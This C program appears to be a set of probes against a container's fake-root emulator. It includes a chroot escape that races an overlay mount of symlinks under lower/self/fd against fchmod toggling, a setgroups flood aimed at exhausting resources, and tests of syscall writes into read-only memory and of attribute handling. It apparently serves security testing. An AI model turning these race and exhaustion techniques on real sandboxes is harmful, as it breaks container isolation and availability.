// What a container does to the process that answers for its fake root.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static int lower;

static void *shut_and_open(void *nothing) {
    for (;;) {
        fchmod(lower, 0700);
        fchmod(lower, 0600);
    }
    return nothing;
}

// A root that can be entered by chdir, and now and then not by chroot: names of descriptors would be looked up in it.
static int escape(const char *target) {
    char name[64];
    int own = open("own", O_CREAT | O_RDWR, 0600);
    mkdir("lower", 0700), mkdir("empty", 0755), mkdir("merged", 0755), mkdir("lower/self", 0755), mkdir("lower/self/fd", 0755);
    for (int number = 0; number < 300; number++) {
        snprintf(name, sizeof name, "lower/self/fd/%d", number);
        symlink(target, name);
    }
    lower = open("lower", O_RDONLY | O_DIRECTORY);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) || mount("o", "merged", "overlay", 0, "lowerdir=lower:empty")) return 1;
    if (chdir("merged") || chroot(".")) return 2;
    pthread_t other;
    pthread_create(&other, 0, shut_and_open, 0);
    struct stat status;
    for (time_t end = time(0) + 2; time(0) < end;) {
        syscall(SYS_newfstatat, AT_FDCWD, "..", &status, 0);
        syscall(SYS_fchown, own, 4321, 4321);
    }
    return 0;
}

// As many groups as there may be, and others each time.
static int fill(void) {
    static unsigned groups[65536];
    for (unsigned round = 0; round < 400; round++) {
        groups[0] = round;
        if (syscall(SYS_setgroups, 65536, groups) && errno != EPERM) return 1;
    }
    sleep(1000);
    return 0;
}

// Into memory that the caller may not write to.
static int overwrite(void) {
    int file = open("own", O_CREAT | O_RDWR, 0600);
    if (fchown(file, 9, 9)) return 1;
    char *page = mmap(0, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    long done = syscall(SYS_fstat, file, page);
    printf("%ld %s %d\n", done, done ? strerror(errno) : "-", page[24]);
    return 0;
}

// What a copy of all attributes would copy.
static int list(void) {
    char names[4096];
    int file = open("own", O_CREAT | O_RDWR, 0600);
    if (fchown(file, 9, 9) || fsetxattr(file, "user.mine", "x", 1, 0)) return 1;
    ssize_t length = flistxattr(file, names, sizeof names);
    for (char *name = names; name < names + length; name += strlen(name) + 1) printf("%s ", name);
    printf("%zd %zd\n", flistxattr(file, names, 0), flistxattr(file, names, 3));
    return 0;
}

// O_PATH and O_CREAT, where there is something; and the number of a file that is gone.
static int delete(const char *path) {
    printf("%d", syscall(SYS_openat, AT_FDCWD, path, O_PATH | O_CREAT, 0600) >= 0);
    symlink("x", "link"), lchown("link", 5, 5), unlink("link");
    int file = open("new", O_CREAT | O_RDWR, 0600);
    struct stat status;
    fstat(file, &status);
    printf(" %d\n", (int)status.st_uid);
    return 0;
}

int main(int count, char **arguments) {
    if (count < 2 || chdir("/tmp")) return 9;
    if (!strcmp(arguments[1], "escape")) return escape(arguments[2]);
    if (!strcmp(arguments[1], "fill")) return fill();
    if (!strcmp(arguments[1], "delete")) return delete(arguments[2]);
    if (!strcmp(arguments[1], "list")) return list();
    return overwrite();
}
